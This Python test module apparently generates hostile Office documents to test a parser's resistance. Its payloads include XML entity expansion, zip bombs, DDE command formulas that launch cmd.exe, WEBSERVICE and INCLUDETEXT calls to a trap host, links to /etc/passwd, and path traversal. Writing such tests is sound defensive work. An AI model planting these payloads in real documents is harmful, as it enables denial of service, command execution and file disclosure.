"""Office documents that attack their parser: (name, bytes) of each. See also `files.py`."""

import gzip
import io
import random
import re
import zipfile
from collections.abc import Iterator

from tests.hostile import files
from tests.hostile.pdfs import TRAP
from tests.memory.files import samples

KINDS = ("docx", "xlsx", "pptx")
MEGABYTE = 2**20
# The parts of each kind that are parsed as XML. Of masters and layouts, one of each is enough.
_PARTS = re.compile(r".*\.(xml|rels)")
_ONE_OF_MANY = re.compile(r"ppt/(slideLayouts|slides)/(_rels/)?[a-z]+([2-9]|1\d)\.xml.*", re.I)
_ROOT = re.compile(rb"<[A-Za-z][^>]*?(/?)>")


def all_of_them() -> Iterator[tuple[str, bytes]]:
    """Yield all files."""
    yield from light()
    yield from heavy()


def light() -> Iterator[tuple[str, bytes]]:
    """Yield those that are made and read fast."""
    for make in (_laughs, _other_entities, _packed, _macros, _links, _relationships):
        yield from make()


def heavy() -> Iterator[tuple[str, bytes]]:
    """Yield those that are large, or that take their parser long."""
    for make in (_large_sheets, _strings, _large_documents):
        yield from make()


def parts(data: bytes) -> list[str]:
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    return [it for it in names if _PARTS.fullmatch(it) and not _ONE_OF_MANY.fullmatch(it)]


def with_doctype(xml: bytes, head: str, entity: str) -> bytes:
    """The XML with this document type, and with the entity in its root element."""
    xml = re.sub(rb"^<\?xml.*?\?>\s*", b"", xml)
    opening = _ROOT.search(xml)
    assert opening is not None
    if opening[1]:
        return head.encode() + xml
    text = xml[: opening.end()] + entity.encode() + xml[opening.end() :]
    return head.encode() + text


def _laughs() -> Iterator[tuple[str, bytes]]:
    """Yield a document for each part, in which that part is a billion laughs."""
    head, entity = files.DOCTYPES["laughs"]
    for kind in KINDS:
        data = files.samples_of_each_kind()[kind]
        for part in parts(data):
            xml = zipfile.ZipFile(io.BytesIO(data)).read(part)
            laughing = with_doctype(xml, head, entity)
            yield f"laughs in {part}.{kind}", files.with_part(data, part, laughing)


def _other_entities() -> Iterator[tuple[str, bytes]]:
    head, entity = files.DOCTYPES["laughs"]
    attribute = f'<w:p><w:pPr><w:pStyle w:val="{entity}"/></w:pPr></w:p>'
    yield "laughs in an attribute.docx", files.body(attribute + files.paragraph("a"), head)
    default = '<!DOCTYPE x [<!ATTLIST w:t note CDATA "{}">]>'
    yield "default attribute.docx", files.body(files.paragraph("a"), default.format("a" * 9_000))
    recursive = '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    yield "entity cycle.docx", files.body(files.paragraph("a &a;"), recursive)
    cell = '<sheetData><row><c t="inlineStr"><is><t>a &a;</t></is></c></row></sheetData>'
    yield "entity cycle.xlsx", files.sheet(cell, recursive)
    for encoding in ("utf-16", "utf-7", "ebcdic-cp-us", "nope"):
        xml = f'<?xml version="1.0" encoding="{encoding}"?>{head}<x>{entity}</x>'
        data = xml.encode("utf-16" if encoding == "utf-16" else "ascii")
        yield (
            f"laughs in {encoding}.docx",
            files.with_part(samples.word(), "word/document.xml", data),
        )
    declared = "".join(f'<!ENTITY n{number} "a">' for number in range(50_000))
    yield "many entities.docx", files.body(files.paragraph("&n9;"), f"<!DOCTYPE x [{declared}]>")


def _packed() -> Iterator[tuple[str, bytes]]:
    """Yield documents with parts that are packed once more."""
    bomb = gzip.compress(bytes(50 * MEGABYTE))
    for kind, part in (
        ("docx", "word/document.xml"),
        ("xlsx", "xl/worksheets/sheet1.xml"),
        ("pptx", files.SLIDE),
    ):
        data = files.samples_of_each_kind()[kind]
        yield f"gzip.{kind}", files.with_part(data, part, bomb)
        yield f"whole in gzip.{kind}", gzip.compress(data)
        yield f"itself.{kind}", files.with_part(data, part, data)
    inside = samples.zipped({"a.docx": samples.word()})
    yield "embedded.docx", files.changed(samples.word(), _same, **{"word/embeddings/a.zip": inside})
    picture = {"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(60 * MEGABYTE)}
    yield "large picture.docx", files.changed(samples.word(), _same, **picture)


def _macros() -> Iterator[tuple[str, bytes]]:
    formula = "=cmd|'/c calc'!A1"
    cell = f"<c><f>{formula}</f><v>1</v></c><c t='str'><f>WEBSERVICE(\"http://{TRAP}/\")</f></c>"
    yield "formulas.xlsx", files.sheet(f"<sheetData><row>{cell}</row></sheetData>")
    shared = '<row><c><f t="shared" ref="A1:XFD1048576" si="0">A2</f><v>1</v></c></row>'
    yield "shared formula.xlsx", files.sheet(f"<sheetData>{shared}</sheetData>")
    array = '<row><c><f t="array" ref="A1:XFD1048576">A1:XFD1048576</f><v>1</v></c></row>'
    yield "array formula.xlsx", files.sheet(f"<sheetData>{array}</sheetData>")
    circle = '<row><c r="A1"><f>B1</f><v>1</v></c><c r="B1"><f>A1</f><v>1</v></c></row>'
    yield "formula cycle.xlsx", files.sheet(f"<sheetData>{circle}</sheetData>")
    for command in (
        "DDEAUTO c:\\\\windows\\\\cmd.exe",
        f'INCLUDETEXT "http://{TRAP}/"',
        "LINK a b",
    ):
        field = f"<w:r><w:instrText>{command}</w:instrText></w:r>"
        text = f"<w:p>{field}<w:r><w:t>text</w:t></w:r></w:p>"
        yield f"field {command.partition(' ')[0]}.docx", files.body(text)
    control = {"word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0" + bytes(90_000)}
    yield "control.docm", files.changed(samples.word(), _same, **control)


def _links() -> Iterator[tuple[str, bytes]]:
    """Yield documents with relationships to what is outside of them."""
    targets = (
        f"http://{TRAP}/a",
        "file:///etc/passwd",
        "../../../../etc/passwd",
        f"\\\\{TRAP}\\share\\a",
        "/dev/zero",
    )
    places = {
        "docx": ("word/_rels/document.xml.rels", "aFChunk", "subDocument", "frame", "oleObject"),
        "xlsx": ("xl/_rels/workbook.xml.rels", "connections", "theme", "styles"),
        "pptx": ("ppt/_rels/presentation.xml.rels", "slideMaster", "notesMaster", "video"),
    }
    for kind, (part, *types) in places.items():
        data = files.samples_of_each_kind()[kind]
        for number, name in enumerate(types):
            for mode in ("External", "Internal"):
                target = targets[(number + (mode == "Internal")) % len(targets)]
                link = (
                    f'<Relationship Id="x9" Type="{files._R}/{name}" Target="{target}" '
                    f'TargetMode="{mode}"/></Relationships>'
                ).encode()
                yield f"{mode} {name}.{kind}", _replaced(data, part, b"</Relationships>", link)
    # Every relationship of the package leads out.
    for kind in KINDS:
        data = files.samples_of_each_kind()[kind]
        for part in [it for it in parts(data) if it.endswith(".rels")][:3]:
            xml = zipfile.ZipFile(io.BytesIO(data)).read(part)
            out = re.sub(rb'Target="[^"]*"', f'Target="{targets[2]}"'.encode(), xml)
            yield f"all out of {part}.{kind}", files.with_part(data, part, out)


def _relationships() -> Iterator[tuple[str, bytes]]:
    """Yield documents whose parts lead to themselves and each other."""
    for kind in KINDS:
        data = files.samples_of_each_kind()[kind]
        for part in [it for it in parts(data) if it.endswith(".rels")][:3]:
            xml = zipfile.ZipFile(io.BytesIO(data)).read(part)
            yield (
                f"no target in {part}.{kind}",
                files.with_part(data, part, re.sub(rb' Target="[^"]*"', b"", xml)),
            )
            itself = re.sub(rb'Target="[^"]*"', f'Target="/{part}"'.encode(), xml)
            yield f"itself from {part}.{kind}", files.with_part(data, part, itself)
            many = b"".join(
                b'<Relationship Id="m%d" Type="a" Target="%d.xml"/>' % (number, number)
                for number in range(20_000)
            )
            yield f"many from {part}.{kind}", _replaced(data, part, b"</Rel", many + b"</Rel")


def _large_sheets() -> Iterator[tuple[str, bytes]]:
    cell = '<row><c t="inlineStr"><is><t>a</t></is></c></row>'
    rows = f"<sheetData>{cell}</sheetData>"
    merged = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 200_000))
    yield "merged.xlsx", files.sheet(f"{rows}<mergeCells>{merged}</mergeCells>")
    everything = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield "all merged.xlsx", files.sheet(rows + everything)
    columns = '<cols><col min="1" max="16384" width="9"/></cols>'
    yield "columns.xlsx", files.sheet(columns + rows)
    rules = '<conditionalFormatting sqref="A1:XFD1048576"><cfRule/></conditionalFormatting>'
    yield "rules.xlsx", files.sheet(rows + rules * 100_000)
    links = '<hyperlinks><hyperlink ref="A1:XFD1048576" location="b"/></hyperlinks>'
    yield "linked.xlsx", files.sheet(rows + links)
    full = f"<row>{'<c><v>1</v></c>' * 16_384}</row>"
    yield "full rows.xlsx", files.sheet(f"<sheetData>{full * 60}</sheetData>")
    own = {f"xl/worksheets/sheet{n}.xml": _worksheet(cell) for n in range(2, 3_000)}
    names = "".join(
        f'<sheet name="s{n}" sheetId="{n}" r:id="r{n}" state="hidden"/>' for n in range(2, 3_000)
    )
    book = f'<workbook xmlns="{files._S}" xmlns:r="{files._R}"><sheets>{names}</sheets></workbook>'
    relations = "".join(
        f'<Relationship Id="r{n}" Type="{files._R}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(2, 3_000)
    )
    rels = f'<Relationships xmlns="{files._RELS}">{relations}</Relationships>'
    data = files.changed(samples.workbook(), _same, **own)
    data = files.with_part(data, "xl/workbook.xml", book)
    yield "hidden sheets.xlsx", files.with_part(data, "xl/_rels/workbook.xml.rels", rels)
    defined = "".join(
        f'<definedName name="n{n}">Budget!$A$1:$XFD$1048576</definedName>' for n in range(100_000)
    )
    yield (
        "defined names.xlsx",
        _replaced(
            samples.workbook(),
            "xl/workbook.xml",
            b"</sheets>",
            f"</sheets><definedNames>{defined}</definedNames>".encode(),
        ),
    )
    formats = (
        f'<styleSheet xmlns="{files._S}"><cellXfs>{"<xf/>" * 1_000_000}</cellXfs></styleSheet>'
    )
    yield "formats.xlsx", files.with_part(samples.workbook(), "xl/styles.xml", formats)


def _strings() -> Iterator[tuple[str, bytes]]:
    row = '<sheetData><row><c t="s"><v>0</v></c></row></sheetData>'
    data = files.with_part(samples.workbook(), "xl/worksheets/sheet1.xml", _worksheet(row, ""))
    text = random.Random(1).randbytes(1_000).hex()
    for name, strings in (
        ("many", "<si><t>a</t></si>" * 3_000_000),
        ("long", f"<si><t>{text * 20_000}</t></si>"),
        ("runs", f"<si>{'<r><t>a</t></r>' * 1_000_000}</si>"),
        ("empty", "<si/>" * 5_000_000),
        ("deep", "<si>" * 100_000),
    ):
        xml = f'<sst xmlns="{files._S}" count="4294967295">{strings}</sst>'
        yield f"{name} strings.xlsx", files.with_part(data, "xl/sharedStrings.xml", xml)
    repeated = "<row>" + '<c t="s"><v>1</v></c>' * 1_000 + "</row>"
    xml = f'<sst xmlns="{files._S}"><si><t>a</t></si><si><t>{text * 10}</t></si></sst>'
    data = files.with_part(data, "xl/sharedStrings.xml", xml)
    yield (
        "repeated string.xlsx",
        files.with_part(data, "xl/worksheets/sheet1.xml", _worksheet(repeated * 500)),
    )


def _large_documents() -> Iterator[tuple[str, bytes]]:
    note = '<w:footnote w:id="{}"><w:p><w:r><w:t>a</w:t></w:r></w:p></w:footnote>'
    notes = "".join(note.format(number) for number in range(100_000))
    xml = f'<w:footnotes xmlns:w="{files._W}">{notes}</w:footnotes>'
    references = '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>' * 200_000
    data = files.changed(files.body(references), _same, **{"word/footnotes.xml": xml.encode()})
    link = f'<Relationship Id="x9" Type="{files._R}/footnotes" Target="footnotes.xml"/>'
    part = "word/_rels/document.xml.rels"
    yield "notes.docx", _replaced(data, part, b"</Rel", f"{link}</Rel".encode())
    boxes = "<w:r><w:pict><w:txbxContent><w:p>" * 2_000
    yield "text boxes.docx", files.body(f"<w:p>{boxes}")
    closed = "</w:p></w:txbxContent></w:pict></w:r>" * 80
    yield "boxes in boxes.docx", files.body(f"<w:p>{boxes[: len(boxes) // 25]}{closed}</w:p>")
    headings = '<w:p><w:pPr><w:outlineLvl w:val="{}"/></w:pPr><w:r><w:t>a</w:t></w:r></w:p>'
    yield "headings.docx", files.body("".join(headings.format(n % 9) for n in range(100_000)))
    breaks = f"<w:p><w:r>{'<w:br/><w:tab/>' * 1_000_000}<w:t>a</w:t></w:r></w:p>"
    yield "breaks.docx", files.body(breaks)
    spaces = "<a xmlns='{}'/>"
    yield "namespaces.docx", files.body("".join(spaces.format(f"n{n}") for n in range(200_000)))
    attributes = " ".join(f'a{number}="1"' for number in range(300_000))
    yield "attributes.docx", files.body(f"<w:p {attributes}/>")


def _worksheet(content: str, data: str = "<sheetData>") -> bytes:
    closing = data.replace("<", "</")
    return f'<worksheet xmlns="{files._S}">{data}{content}{closing}</worksheet>'.encode()


def _same(name: str, old: bytes) -> bytes:
    return old


def _replaced(data: bytes, part: str, before: bytes, after: bytes) -> bytes:
    """The zip file with `before` in a part replaced by `after`."""

    def change(name: str, old: bytes) -> bytes:
        return old.replace(before, after, 1) if name == part else old

    return files.changed(data, change)
